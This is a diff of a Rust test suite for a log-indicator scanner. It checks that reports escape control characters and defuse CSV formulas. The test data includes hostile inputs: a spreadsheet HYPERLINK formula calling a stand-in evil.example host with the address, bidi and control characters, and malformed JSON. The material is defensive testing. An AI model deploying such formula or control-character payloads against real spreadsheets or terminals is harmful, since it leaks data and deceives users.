@@ -14,13 +14,13 @@ use crate::world::World;
 
 const IP: &str = "192.0.2.1";
 
-/// Returns the named cases, each of which contains the address.
-fn named() -> Vec<(&'static str, String)> {
-    let record = |time: &str, id: &str| {
-        format!(
-            r#"{{"eventTime":"{time}","eventSource":"s","eventName":"n","awsRegion":"us-east-1","eventID":"{id}","sourceIPAddress":"{IP}"}}"#
-        )
-    };
+/// Returns hostile messages by name. Each contains the address.
+fn hostile_messages() -> Vec<(&'static str, String)> {
+    [json_messages(), record_messages(), text_messages()].concat()
+}
+
+/// JSON that is malformed, deep, large or ambiguous.
+fn json_messages() -> Vec<(&'static str, String)> {
     let field = |n: u32| format!("\"{n}\":1,");
     vec![
         ("not JSON", format!("{{\"a\": {IP}")),
@@ -34,11 +34,6 @@ fn named() -> Vec<(&'static str, String)> {
         ),
         ("keys twice", format!(r#"{{"a":"{IP}","a":1,"a":"{IP}"}}"#)),
         (
-            "a record's keys twice",
-            record("2026-03-02T10:00:00Z", "r")
-                .replace("\"eventName\"", "\"eventID\":\"x\",\"eventName\""),
-        ),
-        (
             "huge numbers",
             format!(r#"{{"a":1e999999,"b":{},"c":"{IP}"}}"#, "9".repeat(400)),
         ),
@@ -46,12 +41,10 @@ fn named() -> Vec<(&'static str, String)> {
             "lone surrogates",
             format!(r#"{{"a":"\ud800","b":"{IP}","c":"\udc00\ud800"}}"#),
         ),
-        ("NUL", format!("\0{IP}\0")),
         (
             "NUL in JSON",
             format!(r#"{{"a\u0000b":"\u0000","c":"{IP}"}}"#),
         ),
-        ("an event of 1 MB", format!("{}{IP}", "x ".repeat(500_000))),
         (
             "100,000 fields",
             format!(
@@ -59,9 +52,33 @@ fn named() -> Vec<(&'static str, String)> {
                 (0..100_000).map(field).collect::<String>()
             ),
         ),
+    ]
+}
+
+/// CloudTrail records with ambiguous keys or extreme times.
+fn record_messages() -> Vec<(&'static str, String)> {
+    let record = |time: &str, id: &str| {
+        format!(
+            r#"{{"eventTime":"{time}","eventSource":"s","eventName":"n","awsRegion":"us-east-1","eventID":"{id}","sourceIPAddress":"{IP}"}}"#
+        )
+    };
+    vec![
+        (
+            "a record's keys twice",
+            record("2026-03-02T10:00:00Z", "r")
+                .replace("\"eventName\"", "\"eventID\":\"x\",\"eventName\""),
+        ),
         ("year 0", record("0000-01-01T00:00:00Z", "zero")),
         ("year 9999", record("9999-12-30T23:59:59Z", "late")),
-        ("no year at all", record("-999999-01-01T00:00:00Z", "none")),
+        ("no valid year", record("-999999-01-01T00:00:00Z", "none")),
+    ]
+}
+
+/// Plain text that a terminal, a spreadsheet or a browser could execute or misread.
+fn text_messages() -> Vec<(&'static str, String)> {
+    vec![
+        ("NUL", format!("\0{IP}\0")),
+        ("an event of 1 MB", format!("{}{IP}", "x ".repeat(500_000))),
         (
             "a formula",
             format!("=HYPERLINK(\"http://evil.example/?{IP}\")"),
@@ -79,8 +96,8 @@ fn named() -> Vec<(&'static str, String)> {
 }
 
 #[tokio::test(start_paused = true)]
-async fn nothing_poisonous_is_dropped_and_nothing_of_it_is_obeyed() {
-    let cases = named();
+async fn hostile_messages_are_reported_and_escaped() {
+    let cases = hostile_messages();
     let plant = |message: &String| {
         let message = toml::Value::String(message.clone());
         format!(
@@ -109,7 +126,7 @@ async fn nothing_poisonous_is_dropped_and_nothing_of_it_is_obeyed() {
             .iter()
             .filter(|line| line["message"] == message.as_str())
             .count();
-        assert_eq!(found, 1, "{name}: found, and exact in JSON");
+        assert_eq!(found, 1, "{name}: one sighting with the exact message");
     }
     assert_eq!(lines.len(), cases.len());
     assert_eq!(
@@ -120,15 +137,15 @@ async fn nothing_poisonous_is_dropped_and_nothing_of_it_is_obeyed() {
     let mut rows = csv::Reader::from_reader(csv.as_bytes());
     let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
     assert_eq!(rows.len(), cases.len(), "every row has all its columns");
-    assert!(rows.iter().flatten().all(is_harmless_cell));
+    assert!(rows.iter().flatten().all(is_safe_csv_field));
 }
 
-fn is_harmless_cell(cell: &str) -> bool {
-    !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
+fn is_safe_csv_field(field: &str) -> bool {
+    !field.starts_with(['=', '+', '-', '@', '\t', '\r', '\n'])
 }
 
 /// Text of arbitrary characters, in which dangerous ones are frequent.
-fn poison() -> impl Strategy<Value = String> {
+fn hostile_text() -> impl Strategy<Value = String> {
     let piece = prop_oneof![
         any::<String>(),
         "[=+\\-@\t\r\n\"',;|{}\\[\\]:\\\\ \u{0}-\u{1f}\u{7f}-\u{9f}\u{202a}-\u{202e}\u{2066}-\u{2069}\u{feff}]{0,20}",
@@ -157,7 +174,7 @@ fn sighting(text: &str) -> Sighting {
             timestamp_ms: i64::MIN,
             ingestion_ms: i64::MAX,
         },
-        happening: EventDetails {
+        details: EventDetails {
             account: text(),
             region: text(),
             principal_arn: text(),
@@ -187,26 +204,26 @@ fn report(form: SightingsForm, text: &str) -> Vec<u8> {
 
 proptest! {
     #[test]
-    fn a_terminal_gets_nothing_to_obey(text in poison()) {
+    fn escape_removes_control_characters(text in hostile_text()) {
         let shown = escape(&text);
-        let obeyed = |c: char| c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
-        prop_assert!(!shown.contains(obeyed));
+        let is_control = |c: char| c.is_control() || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
+        prop_assert!(!shown.contains(is_control));
     }
 
     #[test]
-    fn a_spreadsheet_gets_nothing_to_run(text in poison()) {
-        prop_assert!(is_harmless_cell(&defuse(&text)));
+    fn csv_fields_are_not_formulas(text in hostile_text()) {
+        prop_assert!(is_safe_csv_field(&defuse(&text)));
         prop_assert!(defuse(&text).ends_with(&text));
         let written = report(SightingsForm::Csv, &text);
         let mut rows = csv::Reader::from_reader(&written[..]);
         let rows: Vec<csv::StringRecord> = rows.records().map(Result::unwrap).collect();
         prop_assert_eq!(rows.len(), 1);
-        prop_assert!(rows[0].iter().all(is_harmless_cell));
+        prop_assert!(rows[0].iter().all(is_safe_csv_field));
         prop_assert_eq!(rows[0].iter().next_back().unwrap(), defuse(&text));
     }
 
     #[test]
-    fn json_keeps_every_message_exact(text in poison()) {
+    fn json_keeps_every_message_exact(text in hostile_text()) {
         let line: serde_json::Value = serde_json::from_slice(&report(SightingsForm::Jsonl, &text)).unwrap();
         prop_assert_eq!(line["message"].as_str(), Some(text.as_str()));
         let array: serde_json::Value = serde_json::from_slice(&report(SightingsForm::Json, &text)).unwrap();
@@ -214,7 +231,7 @@ proptest! {
     }
 
     #[test]
-    fn what_stands_free_in_a_text_is_found_in_whatever_surrounds_it(before in poison(), after in poison()) {
+    fn delimited_indicator_is_found_in_any_text(before in hostile_text(), after in hostile_text()) {
         let matcher = Matcher::new(&[IP.parse().unwrap()]).unwrap();
         // A backslash before the address would spell another character in JSON.
         prop_assume!(!before.ends_with('\\'));
@@ -225,9 +242,9 @@ proptest! {
     }
 
     #[test]
-    fn every_reader_takes_every_text(text in poison(), stored in any::<i64>()) {
-        let told = event_details(&text, "111111111111", "us-east-1", stored);
-        prop_assert!(!told.record_id.is_empty() || told.time_ms == stored);
+    fn parsers_accept_any_text(text in hostile_text(), stored in any::<i64>()) {
+        let details = event_details(&text, "111111111111", "us-east-1", stored);
+        prop_assert!(!details.record_id.is_empty() || details.time_ms == stored);
         let all = ["192.0.2.0/24", "2001:db8::/32", "AKIAIOSFODNN7EXAMPLE", "arn:aws:iam::111111111111:user/a", "x"];
         let all: Vec<_> = all.iter().map(|text| text.parse().unwrap()).collect();
         _ = Matcher::new(&all).unwrap().find(&text);
